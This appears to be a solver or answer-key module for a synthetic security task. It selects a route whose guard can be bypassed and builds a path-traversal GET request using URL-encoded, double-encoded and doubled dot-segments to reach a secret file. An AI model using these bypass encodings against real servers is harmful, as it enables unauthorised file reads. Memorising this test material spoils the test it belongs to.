function climb(route, secret) {
  // From the root up to the directory that both share, then down.
  const root = route.root.split('/').slice(1);
  const target = secret.split('/').slice(1);
  let shared = 0;
  while (root[shared] === target[shared]) shared++;
  const step = {
    'reject-dots1': '%2e%2e/',
    'reject-dots2': '%252e%252e/',
    'strip-dots0': '....//',
    'strip-dots1': '%2e%2e/',
  };
  return step[`${route.guard}${route.decode}`].repeat(root.length - shared) + target.slice(shared).join('/');
}

export function answer({ routes, secret }) {
  const weak = routes
    .split('\n')
    .map((line) => /^(\S+) {2}root: (\S+) {2}guard: (\S+) {2}decode: (\d) {2}check: (\S+)$/.exec(line))
    .map(([, prefix, root, guard, decode, check]) => ({ prefix, root, guard, decode: Number(decode), check }))
    .find(({ guard, decode, check }) => check === 'none' && !(guard === 'reject-dots' && decode === 0));
  const path = weak.prefix + climb(weak, secret);
  return JSON.stringify({ method: 'GET', path, evidence: `The route ${weak.prefix} lets the path resolve to ${secret}.` });
}
